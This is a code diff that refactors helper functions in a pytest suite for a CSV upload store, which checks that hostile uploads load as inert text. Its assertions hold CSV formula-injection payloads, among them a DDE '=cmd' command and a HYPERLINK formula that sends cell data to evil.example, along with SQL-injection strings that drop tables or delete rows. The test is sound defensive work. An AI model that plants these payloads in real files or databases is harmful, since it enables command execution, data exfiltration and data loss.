@@ -19,7 +19,7 @@ from pathlib import Path
 
 import pytest
 
-from ingest_helpers import CONTACT_HEADER, charter, contact_row, csv_text, load, open_db, rows
+from ingest_helpers import CONTACT_HEADER, charter, contact, contact_row, csv_text, dump, load, open_db, rows
 from store.csvfile import UploadRefused
 from store.ingest import DateFormatNeeded, load_file, load_path
 
@@ -147,18 +147,6 @@ def store(tmp_path, monkeypatch):
     con.close()
 
 
-def snapshot(con) -> dict[str, list[tuple]]:
-    """Every table of the database (not only the upload tables), in full and in a stable order."""
-    cursor = con.cursor()
-    try:
-        names = [r[0] for r in cursor.execute(
-            "SELECT table_name FROM duckdb_tables() WHERE NOT temporary AND database_name = current_database() "
-            "ORDER BY table_name").fetchall()]
-        return {name: cursor.execute(f'SELECT * FROM "{name}" ORDER BY ALL').fetchall() for name in names}
-    finally:
-        cursor.close()
-
-
 def columns(con, table: str) -> list[str]:
     cursor = con.cursor()
     try:
@@ -220,7 +208,7 @@ def test_hostile_file(store, tmp_path, monkeypatch, name):
     source = tmp_path / "incoming" / name
     source.parent.mkdir()
     source.write_bytes(corpus_bytes(name))
-    before = snapshot(con)
+    before = dump(con)
 
     if isinstance(expected, Refused):
         with pytest.raises(UploadRefused) as refusal:
@@ -230,7 +218,7 @@ def test_hostile_file(store, tmp_path, monkeypatch, name):
         plain_message(message)
         for fragment in expected.says:
             assert fragment in message, (fragment, message)
-        assert snapshot(con) == before
+        assert dump(con) == before
     else:
         upload_name = UPLOAD_NAMES.get(name, name)
         if upload_name == name:
@@ -254,7 +242,7 @@ def test_hostile_file(store, tmp_path, monkeypatch, name):
         versions = {"contacts": "contact_versions", "prices": "price_versions"}[table]
         assert rows(con, f"SELECT count(*) FROM {versions} WHERE batch_id = ?", [result.batch_id])[0][0] \
             == result.rows_loaded
-        assert_only_the_batch_was_added(con, before, snapshot(con), result.batch_id)
+        assert_only_the_batch_was_added(con, before, dump(con), result.batch_id)
     assert list(scratch.iterdir()) == [], "an upload left its scratch copy behind"
 
 
@@ -264,30 +252,18 @@ def load_committed(con, name: str):
     return load_path(con, "contacts", HOSTILE / name, USER, charter())
 
 
-def stored(con, ticket_id: str) -> dict:
-    cursor = con.cursor()
-    try:
-        cursor.execute("SELECT * FROM contacts WHERE ticket_id = ?", [ticket_id])
-        names = [d[0] for d in cursor.description]
-        found = cursor.fetchall()
-    finally:
-        cursor.close()
-    assert len(found) == 1, ticket_id
-    return dict(zip(names, found[0]))
-
-
 def test_formula_cells_load_as_text_and_are_neutralised_in_downloads(store):
     from components.tables import csv_bytes
 
     con, _ = store
     result = load_committed(con, "formula_injection.csv")
-    assert stored(con, "F1")["agent"] == "=cmd|' /C calc'!A0"
-    assert (stored(con, "F1")["team"], stored(con, "F1")["category"], stored(con, "F1")["partner"]) == \
+    assert contact(con, "F1")["agent"] == "=cmd|' /C calc'!A0"
+    assert (contact(con, "F1")["team"], contact(con, "F1")["category"], contact(con, "F1")["partner"]) == \
         ("+1+1", "-2+3", "@SUM(A1:A9)")
-    assert stored(con, "F2")["agent"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    assert (stored(con, "=1+1")["customer_id"], stored(con, "=1+1")["category"]) == ("@C1", "=1+1")
-    assert (stored(con, "F4")["agent"], stored(con, "F4")["team"]) == ("\tTabbed", "\rCarriage")
-    assert (stored(con, "F5")["agent"], stored(con, "F5")["category"]) == ("Ann\r=1+1", "bill\n@SUM(A1)")
+    assert contact(con, "F2")["agent"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert (contact(con, "=1+1")["customer_id"], contact(con, "=1+1")["category"]) == ("@C1", "=1+1")
+    assert (contact(con, "F4")["agent"], contact(con, "F4")["team"]) == ("\tTabbed", "\rCarriage")
+    assert (contact(con, "F5")["agent"], contact(con, "F5")["category"]) == ("Ann\r=1+1", "bill\n@SUM(A1)")
 
     cursor = con.cursor()
     frame = cursor.execute("SELECT ticket_id, customer_id, team, agent, partner, category FROM contacts "
@@ -309,10 +285,10 @@ def test_formula_cells_load_as_text_and_are_neutralised_in_downloads(store):
 def test_sql_looking_values_are_only_data(store):
     con, _ = store
     load_committed(con, "sql_injection_values.csv")
-    assert stored(con, "'; DROP TABLE contacts; --")["agent"] == "Robert'); DROP TABLE batches;--"
-    assert stored(con, "SQL2")["team"] == 'Billing"; DELETE FROM contact_versions; --'
-    assert stored(con, "SQL2")["category"] == "1; UPDATE meta SET value = '0'"
-    assert (stored(con, "SQL3")["customer_id"], stored(con, "SQL3")["agent"], stored(con, "SQL3")["category"]) == \
+    assert contact(con, "'; DROP TABLE contacts; --")["agent"] == "Robert'); DROP TABLE batches;--"
+    assert contact(con, "SQL2")["team"] == 'Billing"; DELETE FROM contact_versions; --'
+    assert contact(con, "SQL2")["category"] == "1; UPDATE meta SET value = '0'"
+    assert (contact(con, "SQL3")["customer_id"], contact(con, "SQL3")["agent"], contact(con, "SQL3")["category"]) == \
         ("$1", "?", "${tz}")
     # Every table is still there and still holds the seed batch.
     assert rows(con, "SELECT count(*) FROM batches")[0][0] == 4
@@ -323,24 +299,24 @@ def test_sql_looking_values_are_only_data(store):
 def test_header_names_are_never_sql(store):
     con, _ = store
     result = load_committed(con, "sql_injection_header.csv")
-    assert result.rows_loaded == 5 and stored(con, "H001")["agent"] == "Ann"
+    assert result.rows_loaded == 5 and contact(con, "H001")["agent"] == "Ann"
     assert rows(con, "SELECT count(*) FROM batches")[0][0] == 4
 
 
 def test_quotes_inside_values_are_kept(store):
     con, _ = store
     load_committed(con, "stray_quotes.csv")
-    assert stored(con, "S-STRAY")["agent"] == 'Ann "The Fixer" Lee'
-    assert stored(con, "S-STRAY")["customer_id"] == 'C"1'
-    assert stored(con, "S-QUOTED")["agent"] == 'Bob "Bobby", Jones'
+    assert contact(con, "S-STRAY")["agent"] == 'Ann "The Fixer" Lee'
+    assert contact(con, "S-STRAY")["customer_id"] == 'C"1'
+    assert contact(con, "S-QUOTED")["agent"] == 'Bob "Bobby", Jones'
 
 
 def test_accented_names_survive_each_accepted_encoding(store):
     con, _ = store
     load_committed(con, "windows_1252.csv")
     load_committed(con, "utf8_bom.csv")
-    assert (stored(con, "W-ACCENT")["agent"], stored(con, "W-ACCENT")["team"]) == ("Zoë Brontë", "Café Crème")
-    assert stored(con, "B-ACCENT")["agent"] == "Zoë Brontë"
+    assert (contact(con, "W-ACCENT")["agent"], contact(con, "W-ACCENT")["team"]) == ("Zoë Brontë", "Café Crème")
+    assert contact(con, "B-ACCENT")["agent"] == "Zoë Brontë"
 
 
 def test_line_endings_give_the_same_rows(store):
